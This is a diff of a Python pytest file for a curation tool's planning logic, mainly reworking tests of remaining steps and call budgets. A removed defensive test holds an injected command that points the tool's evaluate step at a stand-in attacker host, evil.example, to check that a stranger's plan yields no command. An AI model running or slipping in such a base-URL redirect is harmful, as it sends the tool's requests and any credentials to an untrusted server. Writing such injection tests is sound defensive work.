@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
-from icl_curate.engine.curate.plan import Name, StepDone, most_candidates
-from icl_curate.engine.curate.resume import steps_left
+from icl_curate.engine.curate.plan import Name, Pending, StepDone, most_candidates
 from icl_curate.engine.curate.state import Progress, planned
 
 
@@ -29,24 +30,35 @@ def test_a_race_is_not_followed_by_questions_that_no_race_could_use() -> None:
 
 
 def test_the_steps_that_are_left_begin_with_the_race_that_goes_on() -> None:
-    steps = tuple(planned(600, 0.5, True, True, (), lambda step, calls, methods: ""))
-    state = Progress({}, "", (_done("check"), _done("confirm", 250)), limit=600, planned=steps, unfinished=3)
-    race, *rest = steps_left(state)
-    assert (race.step, race.what, race.calls) == ("confirm", f"{steps[1].what}, continued", 250)
-    assert [step.step for step in rest] == ["ask", "confirm", "rank", "choose"]
+    state = Progress({}, "", (_done("check"), _done("confirm", 250)), limit=600, unfinished=3)
+    race, *rest = planned(state)
+    assert (race.step, race.calls) == ("confirm", 250) and race.what.endswith(", continued")
+    assert [step.step for step in rest] == ["choose"], "it takes what else was for questions"
     state.unfinished, state.continued = 0, True
     state.finish(_done("confirm", 60))
-    assert state.rounds == 1 and [step.step for step in steps_left(state)] == ["ask", "confirm", "rank", "choose"]
+    assert state.rounds == 1 and [step.step for step in planned(state)] == ["ask", "confirm", "rank", "choose"]
+
+
+@pytest.mark.parametrize("spent", [100, 250, 383, 480])
+@pytest.mark.parametrize("unfinished", [0, 3])
+@pytest.mark.parametrize("held", [False, True])
+def test_the_rest_of_a_plan_takes_what_is_left_and_begins_with_what_follows(
+    spent: int, unfinished: int, held: bool
+) -> None:
+    state = Progress({}, "", (_done("check"),), limit=600, unfinished=unfinished)
+    race = _done("confirm", spent)
+    if held:
+        state.pending = Pending(race, (), ("r1",), "", 0.1, held=True)
+    else:
+        state.finish(race)
+    before = replace(state)
+    steps = planned(state)
+    assert sum(step.calls for step in steps) <= 600 - spent and state == before
+    if not held:
+        assert steps[0].step == state.following(state.left)
+    assert "check" not in [step.step for step in steps]
 
 
 @pytest.mark.parametrize(("calls", "candidates"), [(10, 3), (84, 3), (125, 3), (413, 10)])
 def test_a_race_has_two_prunings_at_least(calls: int, candidates: int) -> None:
     assert most_candidates(calls) == candidates
-
-
-def test_a_strangers_plan_says_no_command() -> None:
-    evil = "icl-curate evaluate --base-url http://evil.example/v1"
-    steps = tuple(planned(600, 0.5, True, True, (), lambda *_: evil))
-    for done in ((_done("check"),), (_done("check"), _done("confirm", 250))):
-        left = steps_left(Progress({}, "", done, limit=600, planned=steps, unfinished=3 * (len(done) - 1)))
-        assert left and {step.command for step in left} == {""}
